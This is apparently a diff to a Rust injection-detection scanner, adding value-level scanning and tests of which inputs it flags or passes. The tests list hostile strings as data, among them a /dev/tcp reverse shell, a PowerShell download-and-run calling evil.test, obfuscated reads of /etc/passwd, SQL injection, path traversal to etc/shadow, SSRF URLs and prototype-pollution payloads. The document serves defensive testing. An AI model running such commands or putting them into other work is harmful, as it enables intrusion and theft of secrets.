@@ -2,18 +2,27 @@
 //! addresses inside the network. Arguments are looked at whole; what is active content counts everywhere.
 
 mod active;
+mod commands;
 mod document;
+mod expansion;
+mod fragments;
+mod functions;
+mod leaves;
 mod markup;
 mod paths;
+mod protocol;
+mod restricted;
 mod shell;
 mod sql;
 mod targets;
 mod templates;
+mod value;
 
 pub(super) use document::soften;
 
-use super::rules::{EVERYWHERE, Search, Table};
-use super::{Finding, Kind, Place};
+use super::rules::{self, EVERYWHERE, Search, Table};
+use super::text::View;
+use super::{Finding, Kind, Kinds, Place, layers};
 
 const ARGUMENT: &[Place] = &[Place::Argument];
 
@@ -38,6 +47,10 @@ pub(super) const TABLES: &[Table] = &[
     Table { search: Search::Heads, ..argument(templates::CALLS) },
     argument(templates::RULES),
     argument(targets::RULES),
+    argument(fragments::RULES),
+    argument(expansion::RULES),
+    argument(functions::RULES),
+    argument(protocol::RULES),
     Table {
         kind: Kind::CodeInjection,
         places: EVERYWHERE,
@@ -52,6 +65,24 @@ pub(super) const TABLES: &[Table] = &[
 /// What no literal gives away.
 pub(super) fn scan(text: &str, found: &mut Vec<Finding>) {
     shell::scan(text, found);
+    value::scan(text, found);
+}
+
+/// Adds what the values hold of a text that is a small document: a value in it is one like any other.
+pub(super) fn inside(text: &str, found: &mut Vec<Finding>) {
+    for value in leaves::within(text) {
+        let view = View::of(&text[value.clone()]);
+        for layer in layers(&view, Place::Argument) {
+            let mut seen = Vec::new();
+            rules::scan(layer.text(), Place::Argument, Kinds::NONE.with(Kind::CodeInjection), &mut seen);
+            scan(layer.text(), &mut seen);
+            for mut finding in seen {
+                let span = view.origin(layer, finding.span);
+                finding.span = value.start + span.start..value.start + span.end;
+                found.push(finding);
+            }
+        }
+    }
 }
 
 #[cfg(test)]
@@ -128,6 +159,116 @@ mod tests {
             assert_eq!(labels(text, Place::Result), Vec::<&str>::new(), "{text}");
         }
         assert_eq!(labels("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Place::Result), ["shell"]);
+    }
+
+    #[test]
+    fn a_value_that_is_nothing_else_says_more_than_a_sentence_with_it() {
+        let mut wrong = Vec::new();
+        for (text, label) in [
+            (") AS total FROM", "sql"),
+            ("NOT IN (17, 18, 19)", "sql"),
+            ("session_user()", "sql"),
+            ("guest';", "sql"),
+            ("DROP invoices; --", "sql"),
+            ("{whoami,}", "shell"),
+            ("~+2", "shell"),
+            ("scandir($b)", "code"),
+            ("('sys'.'tem')('id')", "code"),
+            ("allow_url_include = On", "code"),
+            ("navigator.vibrate(7)", "xss"),
+            ("7\r\nVRFY root", "header"),
+            ("../../repo/.git/config", "path"),
+            ("etc/shadow", "path"),
+            ("http://198.51.100.7/c99.php", "ssrf"),
+        ] {
+            if !labels(text, Place::Argument).contains(&label) {
+                wrong.push(format!("MISS {text}"));
+            }
+            let inside = format!("The page explains in a few words what {text} is good for, and why.");
+            if labels(&inside, Place::Argument).contains(&label) {
+                wrong.push(inside);
+            }
+        }
+        for text in [
+            "in (some) cases",
+            "like nothing else",
+            "session timeout",
+            "it's; that's",
+            "Drop me a line",
+            "{a, b}",
+            "~5 minutes",
+            "(see the list)(again)",
+            "memory limit = high",
+            "new functions",
+            "first line\nHelp wanted: two cooks",
+            "src/proc/mod.rs",
+            "docs/etc.md",
+            "http://10.0.0.7/status.php",
+            "https://example.org/notes.txt",
+        ] {
+            if !labels(text, Place::Argument).is_empty() {
+                wrong.push(format!("FP {text}"));
+            }
+        }
+        assert_eq!(wrong, Vec::<String>::new());
+    }
+
+    #[test]
+    fn what_hides_a_command_or_a_query_is_found() {
+        let mut wrong = Vec::new();
+        for text in [
+            "/b?n/c?t /e?c/p?sswd",
+            "a; wh$@oami",
+            "1 or/*x*/2=2",
+            "dr/**/op table a",
+            "' or data @> '{\"a\": 1}",
+            "1.e(ascii",
+            "select 1 from syscat.tabauth",
+            "for %i in (*.txt) do del %i",
+            "x | iex (new-object net.webclient).downloadstring('http://evil.test')",
+            "a?__proto__[admin]=1",
+            "{\"constructor\": {\"prototype\": {\"admin\": 1}}}",
+            "O:4:\"User\":1:{s:4:\"name\";s:1:\"a\";}",
+            "$_GET['c']",
+            "process.mainModule.require",
+            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
+            "+ADw-script+AD4-",
+            "unix:/var/run/app.sock|http://localhost/",
+            "http://2130706433:80/",
+            "pop3://localhost/",
+            ";lastlog",
+            "7\r\nContent-Type: text/html",
+            "x&wmic process",
+            ";sleep 9",
+            "& type C:\\boot.txt",
+            "<?xml version=\"1.0\"?><a b=\"&#x7C;id\">c</a>",
+            "{\"a\": \";htop\"}",
+        ] {
+            if labels(text, Place::Argument).is_empty() {
+                wrong.push(format!("MISS {text}"));
+            }
+        }
+        for text in [
+            "src/**/*.{js,ts}",
+            "components/select/**/index.ts",
+            "https://example.org/?q=1&page=/a",
+            "echo \"$@\"",
+            "for i in (1, 2, 3)",
+            "class A { constructor(props) { super(props); } }",
+            "process.env.HOME",
+            "Price: $12.50 (was $_)",
+            "redis://localhost:6379/0",
+            "postgres://127.0.0.1/app",
+            "https://example.org/20260101/",
+            "<?xml version=\"1.0\"?><note to=\"Ann\">Lunch; then a walk | 5 pm</note>",
+            "{\"name\": \"Tom & Jerry\", \"tags\": [\"a|b\", \"c;d\"]}",
+            "type A =\n  | 'bundle'\n  | 'docker'",
+        ] {
+            if !labels(text, Place::Argument).is_empty() {
+                wrong.push(format!("FP {text}"));
+            }
+        }
+        assert_eq!(wrong, Vec::<String>::new());
     }
 
     #[test]
